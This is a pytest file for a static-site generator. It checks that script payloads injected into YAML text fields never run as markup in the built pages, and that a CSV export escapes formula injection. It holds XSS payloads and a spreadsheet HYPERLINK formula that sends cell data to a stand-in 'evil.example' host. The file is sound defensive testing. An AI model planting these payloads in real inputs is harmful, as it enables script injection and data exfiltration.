"""Stored script injection (issue 14): every YAML text reaches every output as text, never as markup.

A copy of the mini office gets a script payload in every text field (office, group, work units,
procedure, officer); the site is built and every page is opened in headless Chromium, then the
search results for the payloads are shown: no script may run.  The ITA CSV is checked for formula
injection.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
import yaml

MARK = "zqxj"
"""A word in every payload, to find them with the site search."""

# fields that are not text (ids, references, choices, numbers, dates, URLs, e-mail)
NOT_TEXT = {"id", "work_unit", "owners", "procedures", "goto", "kind", "email", "website", "handbook_url",
            "numerals", "languages", "effective", "fiscal_year", "emblem", "redirects", "formats", "parts",
            "author", "officer"}


def payloads(counter: list[int]) -> str:
    counter[0] += 1
    n = counter[0]
    return (f' {MARK} <img src=x onerror="window.__xss.push({n})"> <script>window.__xss.push({n})</script>'
            f' </title><script>window.__xss.push({n})</script> [x](javascript:window.__xss.push({n})) *{MARK}*')


def inject(value, counter: list[int], key: str | None = None):
    """Append a payload to every text of ``value`` (a loaded YAML document); leave non-text fields alone."""
    if key in NOT_TEXT:
        return value
    if key in ("version", "position_number"):  # at most 40 characters
        return "<img src=x onerror=__xss.push(9)>"
    if isinstance(value, dict):
        return {k: inject(v, counter, k) for k, v in value.items()}
    if isinstance(value, list):
        return [inject(v, counter, key) for v in value]
    if isinstance(value, str):
        return value[:150] + payloads(counter)
    return value


@pytest.fixture(scope="module")
def injected_site(tmp_path_factory) -> Path:
    import shutil

    from conftest import MINI, ROOT

    from generator.build import build

    base = tmp_path_factory.mktemp("xss")
    project = base / "project"
    shutil.copytree(MINI, project)
    shutil.copyfile(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    counter = [0]
    files = [project / "office.yml", *sorted((project / "procedures").glob("*.yml")),
             *sorted((project / "officers").glob("*.yml"))]
    for path in files:
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        path.write_text(yaml.safe_dump(inject(data, counter), allow_unicode=True, sort_keys=False), encoding="utf-8")
    data = yaml.safe_load((project / "office.yml").read_text(encoding="utf-8"))
    data["phone"] = '0 4599 0001 <img src=x onerror="window.__xss.push(0)">'
    (project / "office.yml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    assert counter[0] > 40
    return build(project, site_dir=base / "site", docs_dir=base / "docs", manuals=False)


def test_payload_reaches_pages_as_text(injected_site):
    """The payload is on the pages as visible text (so the test is not vacuous) and never as an element."""
    from bs4 import BeautifulSoup

    page = injected_site / "procedures" / "records-management.html"
    soup = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser")
    assert "onerror" in soup.get_text() and MARK in soup.title.get_text()
    assert not [img for img in soup.find_all("img") if img.get("onerror")]
    assert not [s for s in soup.find_all("script") if "__xss" in s.get_text()]
    assert not [a for a in soup.find_all("a") if "javascript:" in (a.get("href") or "")]
    description = soup.find("meta", attrs={"name": "description"})
    assert "onerror" in description["content"]


@pytest.mark.browser
def test_no_script_runs_on_any_page_or_in_search(injected_site):
    from browser import Browser, serve

    pages = sorted(p.relative_to(injected_site).as_posix() for p in injected_site.rglob("*.html")
                   if "assets" not in p.parts and p.name != "404.html")
    assert len(pages) >= 10
    with serve(injected_site) as base, Browser() as browser:
        browser.context.add_init_script("window.__xss = []; window.alert = (x) => window.__xss.push('alert:' + x);")
        ran = {}
        for rel in pages:
            browser.page.goto(base + rel)
            browser.page.wait_for_load_state("load")
            fired = browser.page.evaluate("window.__xss")
            if fired:
                ran[rel] = fired
        assert ran == {}
        # the search results show titles and texts of every page
        browser.open_search(base)
        results = browser.search(MARK)
        assert results, "the payloads should be found by the search"
        shown = browser.page.inner_text(".md-search-result")
        assert "onerror" in shown or MARK in shown
        assert browser.page.evaluate("window.__xss") == []
        assert browser.outside == []


def test_ita_csv_cells_are_not_formulas(tmp_path):
    """A criteria title starting with =, +, -, @ (or tab/CR) reaches the CSV as text, not as a formula."""
    from conftest import EXAMPLE

    from generator.ita.kit import ita_report, load_criteria, write_ita_files
    from generator.model.loader import require_handbook

    handbook = require_handbook(EXAMPLE)
    criteria = load_criteria(EXAMPLE)
    year = criteria.years[-1]
    item = year.items[0].model_copy(update={"title": year.items[0].title.model_copy(
        update={"th": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'})})
    year = year.model_copy(update={"items": [item, *year.items[1:]]})
    criteria = criteria.model_copy(update={"years": [*criteria.years[:-1], year]})
    report = ita_report(handbook, criteria, year.year)
    csv_path, json_path = write_ita_files(report, tmp_path)
    rows = list(csv.reader(io.StringIO(csv_path.read_text(encoding="utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell == "'" + item.title.th for row in rows for cell in row)
    # the JSON keeps the text as written
    assert json.loads(json_path.read_text(encoding="utf-8"))["items"][0]["title"] == item.title.th
